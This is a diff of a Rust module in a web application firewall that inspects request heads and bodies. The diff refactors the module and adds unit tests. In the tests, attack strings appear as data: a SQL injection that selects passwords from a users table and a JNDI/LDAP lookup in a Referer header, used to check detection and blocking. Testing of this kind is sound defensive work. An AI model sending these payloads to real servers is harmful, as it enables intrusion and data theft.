@@ -1,55 +1,32 @@
 //! Second stage: what does the request say? The head at once, the body as it comes. Only here a [`Cleared`] is made, so
 //! that nothing which was not inspected can be forwarded.
 
-use std::sync::{Arc, Mutex, PoisonError};
-use std::time::Duration;
+use std::sync::Arc;
 
-use nix::time::{ClockId, clock_gettime};
 use waf_detection::body::BodyKind;
 use waf_detection::budget::Budget;
 use waf_detection::inspection::{Inspection, OnHit};
 use waf_detection::request::{self, Head};
 use waf_shared::catalog::Leaf;
 
-use super::Turned;
-use super::admit::{Admitted, refuses};
+use super::rejection::Rejection;
+use crate::inspection_pool::InspectionPool;
+use crate::message::Client;
+
 use super::body::{self, Body, Described, body_refusal};
-use super::record::Record;
+use super::context::RequestContext;
+use super::contract::Contracted;
+use super::findings::Findings;
+use super::response_inspection;
 use crate::coding::{self, UnknownCoding};
-use crate::http1::head::Version;
-use crate::message::{Sink, Source};
-use crate::metrics::watch;
+use crate::head::{OutgoingHead, Version};
+use crate::metrics::{thread_cpu_time, watch};
 use crate::refusal::Refusal;
-
-/// Inspections that wait for their next request with their buffers, shared by a worker's connections.
-#[derive(Debug, Default)]
-#[expect(
-    clippy::vec_box,
-    reason = "an inspection is large and travels boxed through the stages; here it only changes hands"
-)]
-pub(crate) struct Spare(Mutex<Vec<Box<Inspection>>>);
-
-/// Inspections that are kept; more run at once only under a flood, and are made anew then.
-const SPARE_MAX: usize = 64;
-
-impl Spare {
-    fn take(&self) -> Option<Box<Inspection>> {
-        self.0.lock().unwrap_or_else(PoisonError::into_inner).pop()
-    }
-
-    /// Keeps an inspection for the next request.
-    pub(crate) fn put(&self, inspection: Box<Inspection>) {
-        let mut spare = self.0.lock().unwrap_or_else(PoisonError::into_inner);
-        if spare.len() < SPARE_MAX {
-            spare.push(inspection);
-        }
-    }
-}
 
 /// A request whose head was inspected.
 #[derive(Debug)]
 pub(crate) struct Inspected {
-    admitted: Admitted,
+    contracted: Contracted,
     inspection: Box<Inspection>,
 }
 
@@ -57,28 +34,36 @@ pub(crate) struct Inspected {
 /// [`Body::next`], which inspects it and keeps the limits.
 #[derive(Debug)]
 pub(crate) struct Cleared {
-    /// The admitted head.
-    pub(crate) admitted: Admitted,
+    /// The head, with its contract.
+    pub(crate) contracted: Contracted,
     /// Its body.
     pub(crate) body: Body,
+    /// Parameters in the body, for rules that compare a response with them.
+    pub(super) parameters: Vec<u8>,
     _proof: (),
 }
 
 /// Inspects path, query and header fields.
-pub(crate) fn head(admitted: Admitted, spare: &Spare, record: &mut Record) -> Result<Inspected, Turned> {
-    record.rules_begin();
-    let settings = record.settings();
-    let bounds = record.serving.bounds(record.route).clone();
-    let on_hit = if refuses(record) { OnHit::Stop } else { OnHit::GoOn };
+pub(super) fn head(
+    contracted: Contracted,
+    inspections: &InspectionPool,
+    context: &RequestContext,
+    findings: &mut Findings,
+) -> Result<Inspected, Rejection> {
+    findings.begin_rules();
+    let admitted = &contracted.admitted;
+    let settings = context.settings();
+    let bounds = context.active_plan.bounds(context.route()).clone();
+    let on_hit = if context.is_blocking() { OnHit::Stop } else { OnHit::GoOn };
     let budget =
         Budget { limit: settings.inspection.evaluation_timeout.duration(), clock: thread_cpu_time, watch };
-    let mut inspection = match spare.take() {
+    let mut inspection = match inspections.take() {
         Some(mut inspection) => {
             inspection.reset(settings.leaves, bounds, on_hit, budget);
             inspection
         }
         None => {
-            let engine = Arc::clone(record.serving.engine());
+            let engine = Arc::clone(context.active_plan.engine());
             Box::new(Inspection::new(engine, settings.leaves, bounds, on_hit, budget))
         }
     };
@@ -95,23 +80,24 @@ pub(crate) fn head(admitted: Admitted, spare: &Spare, record: &mut Record) -> Re
         fields: admitted.head.fields.iter(),
         carries_body: admitted.carries_body(),
     });
-    match body::refusal(&inspection, record.settings().mode) {
-        None => Ok(Inspected { admitted, inspection }),
+    match body::refusal(&inspection, context.settings().mode) {
+        None => Ok(Inspected { contracted, inspection }),
         Some(refusal) => {
-            record.inspected(&inspection);
-            Err(Turned::Found(refusal, inspection))
+            findings.measure(&inspection);
+            Err(Rejection::Found(refusal, inspection))
         }
     }
 }
 
 /// Reads and inspects the part of the body that must be cleared before anything is forwarded.
-pub(crate) async fn body(
+pub(super) async fn body(
     inspected: Inspected,
-    reader: &mut Source<'_>,
-    writer: &mut Sink<'_>,
-    record: &mut Record,
-) -> Result<Cleared, Turned> {
-    let Inspected { admitted, mut inspection } = inspected;
+    client: &mut Client<'_>,
+    context: &RequestContext,
+    findings: &mut Findings,
+) -> Result<Cleared, Rejection> {
+    let Inspected { contracted, mut inspection } = inspected;
+    let admitted = &contracted.admitted;
     let mut kind = BodyKind::None;
     let mut codings = Vec::new();
     if admitted.carries_body() {
@@ -131,33 +117,113 @@ pub(crate) async fn body(
                 kind = BodyKind::None;
                 let leaf = Leaf::HttpComplianceMalformedBody;
                 let reason = "the body has a content coding that cannot be taken off";
-                if record.violate(leaf, "HEADERS:content-encoding", reason).is_err() {
-                    return Err(Turned::Refused(Refusal::blocked(415).closing()));
+                if findings.violate(context, leaf, "HEADERS:content-encoding", reason).is_err() {
+                    return Err(Rejection::Refused(Refusal::blocked(415)));
                 }
             }
         }
         if admitted.head.version != Version::Http10
             && admitted.head.fields.first("expect").is_some()
-            && !reader.has_buffered()
+            && !client.reader.has_buffered()
         {
-            writer.interim(b"HTTP/1.1 100 Continue\r\n\r\n").await.map_err(|_| Turned::Gone)?;
+            client
+                .writer
+                .interim(&OutgoingHead::response(100, b"Continue"))
+                .await
+                .map_err(|_| Rejection::Gone)?;
         }
     }
-    let described = Described { admitted: &admitted, kind, codings: &codings };
-    let mut body = Body::new(&described, inspection, record);
-    let outcome = body.clear(reader).await;
+    let described = Described { contracted: &contracted, kind, codings: &codings };
+    let mut body = Body::new(&described, inspection, context);
+    let outcome = body.clear(&mut client.reader).await;
     if let Err(fault) = outcome {
-        body.report(record);
-        return Err(match body_refusal(&fault, record) {
-            Turned::Refused(refusal) => Turned::Found(refusal, body.into_inspection()),
-            Turned::Gone => Turned::Left(body.into_inspection()),
+        body.report(context, findings);
+        return Err(match body_refusal(&fault, findings) {
+            Rejection::Refused(refusal) => Rejection::Found(refusal, body.into_inspection()),
+            Rejection::Gone => Rejection::Left(body.into_inspection()),
             other => other,
         });
     }
-    Ok(Cleared { admitted, body, _proof: () })
+    let parameters = response_inspection::parameters(&contracted.admitted, &body, context.settings());
+    Ok(Cleared { contracted, body, parameters, _proof: () })
 }
 
-/// CPU time of this thread: what `evaluation_timeout` counts.
-fn thread_cpu_time() -> Duration {
-    clock_gettime(ClockId::CLOCK_THREAD_CPUTIME_ID).map_or(Duration::ZERO, Duration::from)
+#[cfg(test)]
+mod tests {
+    use waf_shared::plan::Mode;
+
+    use super::super::testing::{self, contracted, exchange, with_client};
+    use super::*;
+
+    const JSON: &str = "POST / HTTP/1.1\nHost: a\nContent-Type: application/json\nContent-Length: ";
+    const CHUNKED: &str = "POST / HTTP/1.1\nHost: a\nContent-Type: text/plain\nTransfer-Encoding: chunked";
+
+    /// Status of a refusal, or whether something was found in what may be forwarded.
+    async fn inspect(lines: &str, rest: &[u8], mode: Mode) -> Result<bool, u16> {
+        let mut exchange = exchange(|_, route| route.settings.mode = mode);
+        let contracted = contracted(testing::head(lines), &mut exchange);
+        let framing = contracted.admitted.framing;
+        let pool = InspectionPool::default();
+        let (context, findings) = (&exchange.context, &mut exchange.findings);
+        let (cleared, ..) = with_client(rest, async |client: &mut Client<'_>| {
+            client.reader.delimit(framing);
+            let inspected = head(contracted, &pool, context, findings)?;
+            body(inspected, client, context, findings).await
+        })
+        .await;
+        cleared.map(|cleared| cleared.body.verdict().is_some()).map_err(|rejection| rejection.status())
+    }
+
+    #[tokio::test]
+    async fn attacks_are_found_in_every_part_and_refused_by_mode() {
+        let json: &[u8] = br#"{"q":"1' union select password from users--"}"#;
+        let path = "GET /?q=1'+union+select+password+from+users-- HTTP/1.1\nHost: a";
+        let field = "GET / HTTP/1.1\nHost: a\nReferer: ${jndi:ldap://b/c}";
+        let text = format!("{JSON}{}", json.len());
+        for (lines, rest) in [(path, &b""[..]), (field, b""), (&text, json)] {
+            assert_eq!(inspect(lines, rest, Mode::Blocking).await, Err(403), "{lines:?}");
+            assert_eq!(inspect(lines, rest, Mode::DetectOnly).await, Ok(true), "{lines:?}");
+        }
+    }
+
+    #[tokio::test]
+    async fn benign_requests_are_cleared() {
+        let text = format!("{JSON}14");
+        for (lines, rest) in [
+            ("GET /search?q=union+select+committee HTTP/1.1\nHost: a", &b""[..]),
+            (&text, br#"{"q":"coffee"}"#),
+            (CHUNKED, b"2\r\nok\r\n0\r\n\r\n"),
+        ] {
+            assert_eq!(inspect(lines, rest, Mode::Blocking).await, Ok(false), "{lines:?}");
+        }
+    }
+
+    #[tokio::test]
+    async fn bodies_that_cannot_be_forwarded_are_refused_in_every_mode() {
+        for mode in [Mode::Blocking, Mode::DetectOnly] {
+            for rest in
+                [&b"x\r\n"[..], b"1\r\nab\r\n", b"0\r\nContent-Length: 1\r\n\r\n", b"-1\r\n", b"1 \r\n"]
+            {
+                assert_eq!(inspect(CHUNKED, rest, mode).await, Err(400), "{mode:?} {rest:?}");
+            }
+        }
+    }
+
+    #[tokio::test(start_paused = true)]
+    async fn a_client_that_waits_for_it_gets_an_interim_response() {
+        for (more, expected) in [("\nExpect: 100-continue", "HTTP/1.1 100 Continue\r\n\r\n"), ("", "")] {
+            let mut exchange = exchange(|_, _| {});
+            let contracted = contracted(testing::head(&format!("{JSON}2{more}")), &mut exchange);
+            let (context, findings) = (&exchange.context, &mut exchange.findings);
+            let inspected = head(contracted, &InspectionPool::default(), context, findings);
+            let inspected = inspected.expect("the head is benign");
+            let ((), answer, _) = with_client(b"", async |client: &mut Client<'_>| {
+                client.reader.delimit(crate::http1::framing::Framing::Length(2));
+                let cleared = body(inspected, client, context, findings).await;
+                assert_eq!(cleared.map_err(|rejection| rejection.status()).err(), Some(408));
+            })
+            .await;
+            assert_eq!(answer, expected, "{more:?}");
+        }
+    }
 }
